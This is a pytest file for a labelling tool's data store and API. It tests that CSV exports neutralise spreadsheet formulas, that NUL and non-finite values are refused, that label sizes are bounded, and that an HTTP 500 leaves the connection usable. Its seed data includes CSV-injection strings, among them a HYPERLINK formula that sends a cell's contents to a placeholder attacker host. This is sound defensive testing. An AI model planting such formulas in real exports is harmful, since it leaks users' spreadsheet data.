"""What the store keeps and what exports give back: CSV export is safe to open in a spreadsheet and
imports back to the exact text, non-finite numbers and NUL characters are refused the same way on
SQLite and PostgreSQL (API and import), labels are bounded, and a 500 leaves the connection usable."""

from __future__ import annotations

import csv
import http.client
import json

import pytest
from fastapi.testclient import TestClient

from _server_support import Env, ThreadServer, make_env
from judgeloop.errors import InvalidInput
from judgeloop.io import read_dataset, read_records
from judgeloop.server import create_app
from judgeloop.store import Workspace
from judgeloop.types import Label, Session

NASTY = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "\tleading tab",
    "\rleading CR",
    "'already quoted",
    "''=double",
    "plain text",
]


def _seed(ws: Workspace) -> None:
    sessions = [
        Session(id=f"s{i}", model_input=f"question {i}", model_output=text, metadata={"note": text})
        for i, text in enumerate(NASTY)
    ]
    ws.add_sessions("shop", sessions)
    for i, text in enumerate(NASTY):
        ws.add_label("shop", Label(session_id=f"s{i}", reviewer="ann", good=i % 2 == 0, comment=text))


@pytest.fixture
def ws(db_url) -> Workspace:
    w = Workspace(db_url)
    _seed(w)
    return w


def test_csv_export_neutralises_formulas_and_imports_back_exactly(ws, tmp_path, cli):
    out = tmp_path / "export.csv"
    code, text = cli(["export", "-p", "shop", "--out", out, "--db", ws.url])
    assert code == 0, text
    with out.open(newline="", encoding="utf-8") as fh:
        cells = [row for row in csv.DictReader(fh)]
    for row in cells:
        for column in ("model_output", "comment", "note"):
            assert not row[column].startswith(("=", "+", "-", "@", "\t", "\r")), (column, row[column])
    by_id = {row["session_id"]: row for row in cells}
    assert by_id["s0"]["comment"] == "'" + NASTY[0]
    assert by_id["s8"]["comment"] == "plain text"
    assert by_id["s0"]["good"] == "1"  # numbers are not text cells

    again = Workspace(f"sqlite:///{tmp_path / 'again.db'}")
    again.import_dataset("shop", read_dataset(out))
    back = {s.id: s for s in again.sessions("shop")}
    labels = {lab.session_id: lab for lab in again.labels("shop")}
    for i, text in enumerate(NASTY):
        assert back[f"s{i}"].model_output == text
        assert back[f"s{i}"].metadata["note"] == text
        assert labels[f"s{i}"].comment == text


@pytest.mark.parametrize("suffix", [".jsonl", ".parquet"])
def test_jsonl_and_parquet_exports_keep_the_exact_text(ws, tmp_path, cli, suffix):
    out = tmp_path / f"export{suffix}"
    code, text = cli(["export", "-p", "shop", "--out", out, "--db", ws.url])
    assert code == 0, text
    rows = {r["session_id"]: r for r in read_records(out)}
    for i, value in enumerate(NASTY):
        assert rows[f"s{i}"]["comment"] == value and rows[f"s{i}"]["model_output"] == value


def test_the_review_export_button_neutralises_too(ws, monkeypatch):
    from _review_support import PASSWORD, sign_in
    from judgeloop.review import users

    users.add_reviewer(ws, "lead", "shop", "admin", PASSWORD, lead=True)
    monkeypatch.setenv("JUDGELOOP_SECRET_KEY", "k" * 32)
    with TestClient(create_app(workspace=ws)) as client:
        sign_in(client, "lead")
        body = client.get("/review/projects/shop/export?type=csv").text
    assert "'=HYPERLINK(" in body and ",=HYPERLINK(" not in body and '"=HYPERLINK(' not in body


# --- the API ----------------------------------------------------------------------------------


@pytest.fixture
def env(tmp_path, db_url) -> Env:
    e = make_env(tmp_path, [], url=db_url)
    e.ws.add_sessions("shop", [Session(id="s1", model_input="q", model_output="a")])
    return e


def _post(client: TestClient, env: Env, path: str, raw: str) -> tuple[int, dict]:
    r = client.post(path, content=raw, headers={**env.auth(), "content-type": "application/json"})
    return r.status_code, r.json()


BAD_NUMBERS = ["NaN", "Infinity", "-Infinity", "1e400"]


@pytest.mark.parametrize("number", BAD_NUMBERS)
def test_non_finite_numbers_are_422_and_nothing_is_stored(env, number):
    with TestClient(create_app(workspace=env.ws)) as client:
        bodies = [
            ("/v1/labels", f'{{"session_id":"s1","kind":"likert","scores":{{"a":{number}}}}}', "scores"),
            ("/v1/labels", f'{{"session_id":"s1","good":true,"metadata":{{"x":[1,{number}]}}}}', "metadata"),
            (
                "/v1/sessions",
                f'{{"model_input":"q","model_output":"a","metadata":{{"p":{number}}}}}',
                "metadata",
            ),
            (
                "/v1/sessions",
                f'[{{"model_input":[{{"role":"user","content":"q","w":{number}}}],"model_output":"a"}}]',
                "model_input",
            ),
        ]
        for path, raw, field in bodies:
            status, body = _post(client, env, path, raw)
            assert status == 422 and body["field"] == field, (path, raw, body)
    assert env.ws.labels("shop") == [] and len(env.ws.sessions("shop")) == 1


def test_nul_characters_are_422_naming_the_field_on_both_databases(env):
    with TestClient(create_app(workspace=env.ws)) as client:
        bodies = [
            ("/v1/labels", {"session_id": "s1", "good": True, "comment": "a\x00b"}, "comment"),
            ("/v1/labels", {"session_id": "s1", "good": True, "failure_tags": ["x\x00"]}, "failure_tags"),
            ("/v1/labels", {"session_id": "s1", "good": True, "metadata": {"k\x00": 1}}, "metadata"),
            ("/v1/sessions", {"model_input": "q", "model_output": "a\x00"}, "model_output"),
            ("/v1/sessions", {"model_input": "q\x00", "model_output": "a"}, "model_input"),
            ("/v1/sessions", {"model_input": "q", "model_output": "a", "id": "x\x00"}, "id"),
        ]
        for path, payload, field in bodies:
            status, body = _post(client, env, path, json.dumps(payload))
            assert status == 422 and body["field"] == field and "NUL" in body["detail"], body
        # the connection and the database are fine afterwards (PostgreSQL used to drop it)
        ok = client.post("/v1/labels", json={"session_id": "s1", "good": True}, headers=env.auth())
        assert ok.status_code == 201
    assert len(env.ws.labels("shop")) == 1 and len(env.ws.sessions("shop")) == 1


def test_label_sizes_are_bounded(env):
    with TestClient(create_app(workspace=env.ws)) as client:
        bodies = [
            ({"metadata": {"blob": "x" * 200_000}}, "metadata"),
            ({"failure_tags": ["t" * 1_000_000]}, "failure_tags"),
            ({"failure_tags": [f"t{i}" for i in range(101)]}, "failure_tags"),
            ({"comment": "c" * 100_001}, "comment"),
        ]
        for extra, field in bodies:
            r = client.post(
                "/v1/labels", json={"session_id": "s1", "good": False, **extra}, headers=env.auth()
            )
            assert r.status_code == 422 and r.json()["field"] == field, r.text[:300]
    assert env.ws.labels("shop") == []


def test_the_store_refuses_the_same_values_for_library_callers(env):
    with pytest.raises(InvalidInput, match="model_output.*NUL"):
        env.ws.add_sessions("shop", [Session(id="z", model_input="q", model_output="a\x00")])
    with pytest.raises(InvalidInput, match="scores.*non-finite"):
        env.ws.add_label(
            "shop", Label(session_id="s1", reviewer="ann", kind="likert", scores={"a": float("nan")})
        )
    with pytest.raises(InvalidInput, match="failure_tags"):
        env.ws.add_label("shop", Label(session_id="s1", reviewer="ann", good=True, failure_tags=["t" * 101]))


# --- imports ----------------------------------------------------------------------------------


def test_imports_refuse_nul_and_non_finite_values_naming_row_and_field(tmp_path, db_url):
    jsonl = tmp_path / "bad.jsonl"
    jsonl.write_text(  # (a NaN cell counts as blank, as in Parquet and pandas: it is left out)
        '{"model_input": "q1", "model_output": "a1", "x": NaN}\n'
        '{"model_input": "q2", "model_output": "a2", "score": -Infinity}\n'
    )
    with pytest.raises(
        InvalidInput, match=r"bad.jsonl, row 2, field 'metadata'.*non-finite number -inf at score"
    ):
        read_dataset(jsonl)
    big = tmp_path / "big.jsonl"
    big.write_text('{"model_input": "q1", "model_output": "a1", "weight": 1e400}\n')
    with pytest.raises(InvalidInput, match="row 1.*non-finite number inf"):
        read_dataset(big)
    nul = tmp_path / "nul.csv"
    nul.write_text("model_input,model_output,good\nq1,a1,1\nq2,a\x002,0\n")
    with pytest.raises(InvalidInput, match=r"row 2, field 'model_output'.*NUL"):
        read_dataset(nul)
    tagged = tmp_path / "tags.csv"
    tagged.write_text("model_input,model_output,good,failure_tags\nq1,a1,0," + "t" * 500 + "\n")
    with pytest.raises(InvalidInput, match=r"row 1, field 'failure_tags'"):
        read_dataset(tagged)
    assert Workspace(db_url).projects() == []


# --- a 500 and keep-alive ---------------------------------------------------------------------


def test_a_500_leaves_the_keep_alive_connection_usable(tmp_path, monkeypatch):
    from judgeloop.server import services

    env = make_env(tmp_path, [])
    env.ws.add_sessions("shop", [Session(id="s1", model_input="q", model_output="a")])

    def boom(*args, **kwargs):
        raise RuntimeError("boom")

    monkeypatch.setattr(services, "session_detail", boom)
    with ThreadServer(create_app(workspace=env.ws)) as server:
        conn = http.client.HTTPConnection("127.0.0.1", server.port, timeout=30)
        for _ in range(3):
            conn.request("GET", "/v1/sessions/s1", headers=env.auth())
            r = conn.getresponse()
            assert r.status == 500 and json.loads(r.read()) == {"detail": "internal error"}
            conn.request("GET", "/v1/evaluators", headers=env.auth())  # the same connection
            ok = conn.getresponse()
            assert ok.status == 200, ok.read()
            ok.read()
        conn.close()
